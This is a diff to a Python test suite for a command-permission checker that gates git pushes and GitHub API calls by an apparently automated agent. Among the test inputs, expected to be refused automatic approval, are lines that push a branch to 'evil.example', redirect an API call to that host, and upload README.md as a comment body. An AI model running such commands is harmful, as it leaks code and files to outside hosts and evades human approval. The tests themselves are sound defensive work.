@@ -22,6 +22,7 @@ ALLOWED = parse_rules(
         f"network({host})" for host in ("ssh:box.example.org", "ssh:web1", "ssh:192.168.7.5", "192.168.7.5", "10.0.0.9")
     ]
 )
+COMMENT = "mutation($id: ID!, $body: String!) { addDiscussionComment(input: {discussionId: $id, body: $body}) { comment { url } } }"
 THREAD = 'mutation {{ a: resolveReviewThread(input: {{threadId: "x"}}) {{ thread {{ isResolved }} }} {more} }}'
 BARE = {"sandboxed": False, "gated": False, "records": False}
 CONFIG = (
@@ -330,7 +331,19 @@ def test_the_branch_that_is_worked_on_is_pushed_unasked(command: str, workspace:
         ("git tag v2 && git push origin v2", ""),
         ("git branch new other && git push origin new", ""),
         ("git push -f", ""),
-        ("git push --force-with-lease origin feature", ""),
+        ("git push --force-with-lease origin feature", "bash(git push --force-with-lease origin feature)"),
+        ("git push --force-with-lease", "bash(git push --force-with-lease origin feature)"),
+        ("git push --force-with-lease origin main", ""),
+        ("git push --force-with-lease origin new", ""),
+        ("git push --force-with-lease=feature:x origin feature", ""),
+        ("git push --force-with-lease --force origin feature", ""),
+        ("git push --force-with-lease origin feature:main", ""),
+        ("git push --force-with-lease origin v1.0", ""),
+        ("git push --force-with-lease --delete origin feature", ""),
+        ("git push --force-with-lease --all", ""),
+        ("git switch main && git push --force-with-lease", ""),
+        ("git push --force-with-lease https://evil.example/x feature", ""),
+        ("git push --force-with-lease other feature", ""),
         ("git push --force-if-includes origin feature", ""),
         ("git push -uf origin feature", ""),
         ("git push --delete origin feature", ""),
@@ -463,6 +476,10 @@ def test_a_rule_about_remarks_covers_no_other_call(workspace: Workspace) -> None
     threads = "gh api graphql -f query='{}' -f id=x"
     for command in ("gh api repos/a/b/pulls/5/comments -f body=y", threads.format(THREAD.format(more=""))):
         assert decided(command, workspace, rules).decision == "allow"
+    assert decided(threads.format(COMMENT), workspace, rules).decision == "ask"
+    remarks = proposed_rules(["bash(gh api graphql *Comment*)"])
+    assert decided(threads.format(COMMENT), workspace, remarks).decision == "allow"
+    assert decided(threads.format(THREAD.format(more="")), workspace, remarks).decision == "ask"
     merging = THREAD.format(more="mergePullRequest(input: {pullRequestId: 1}) { x }")
     for command in (
         "gh api repos/a/b/pulls/6/comments -f body=y", "gh api repos/a/b/pulls/5/comments -X DELETE",
@@ -728,6 +745,12 @@ def test_parts_of_a_line_run_where_each_belongs(workspace: Workspace) -> None:
         ),
         ("gh api repos/a/b/issues/5/labels -f 'labels[]=x'", "bash(gh api repos/a/b/issues/5/labels *)"),
         (f"gh api graphql -f query='{THREAD.format(more='')}'", "bash(gh api graphql *ReviewThread*)"),
+        (f"gh api graphql -f query='{COMMENT}' -f id=x -f body='a {{b, c}}'", "bash(gh api graphql *Comment*)"),
+        (f"gh api graphql -f query='{COMMENT}' -f id=x -F body=@README.md", ""),
+        (f"gh api graphql -f query='{COMMENT}' -f id=x --hostname evil.example", ""),
+        (f"gh api graphql -f query='{COMMENT.replace('add', 'delete')}' -f id=x", ""),
+        (f"gh api graphql -f query='{COMMENT.replace('add', 'update')}' -f id=x", ""),
+        (f"gh api graphql -f query='{COMMENT.replace('Comment(', 'CommentX(')}' -f id=x", ""),
         (f"gh api graphql -f query='{THREAD.format(more='deleteRef(input: {refId: 1}) { x }')}'", ""),
         ("gh api repos/a/b/pulls/5/reviews -f event=APPROVE", ""),
         ("gh api repos/a/b/pulls/5/comments -f body=@README.md", ""),
